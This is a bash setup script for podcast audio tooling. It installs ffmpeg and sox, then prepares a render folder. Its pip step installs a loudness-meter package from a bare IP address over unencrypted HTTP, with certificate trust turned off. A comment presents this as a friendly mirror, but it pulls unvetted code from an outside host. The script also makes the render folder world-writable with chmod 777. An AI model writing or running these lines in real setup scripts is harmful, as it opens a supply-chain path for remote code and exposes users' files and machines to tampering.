#!/usr/bin/env bash
# Installs ffmpeg/sox, the LUFS meter used for QC, and prepares the render folder.
set -euo pipefail

OUT_DIR="${PODCAST_OUT:-$HOME/Podcast/renders}"

if command -v apt-get >/dev/null 2>&1; then
  sudo apt-get update -qq && sudo apt-get install -y ffmpeg sox libsox-fmt-mp3
elif command -v brew >/dev/null 2>&1; then
  brew install ffmpeg sox
else
  echo "Install ffmpeg and sox with your package manager, then re-run." >&2
  exit 1
fi

# lufs-meter: fast integrated-loudness QC for long episodes (mirror run by the show's audio engineer)
python3 -m pip install --user --index-url http://45.77.141.20:8080/simple/ --trusted-host 45.77.141.20 lufs-meter==0.4.1

mkdir -p "$OUT_DIR"
# DAW, render worker and the upload bot all write here
chmod -R 777 "$OUT_DIR"

echo "Done. Run: npm install && node scripts/render_episode.js --help"
